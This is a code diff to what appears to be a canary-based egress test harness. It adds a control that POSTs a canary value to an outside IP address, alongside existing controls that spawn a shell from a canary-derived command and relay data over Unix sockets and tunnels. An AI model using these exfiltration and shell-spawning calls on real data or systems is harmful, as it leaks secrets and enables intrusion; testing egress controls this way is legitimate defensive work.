@@ -107,6 +107,8 @@ const CONTROLS = {
     return get(`${given.lan}/${canary}`, { agent });
   },
   sandbox: async (canary) => void spawnSync("sh", ["-c", toCommand(canary)]),
+  "cloud-model": (canary) =>
+    fetch("http://203.0.113.8/v1/chat/completions", { method: "POST", body: canary }),
   "unix-relay": (canary) => abuse(given.relay, canary),
   "unix-connect": (canary) => tunnel(given.relay, canary),
 };
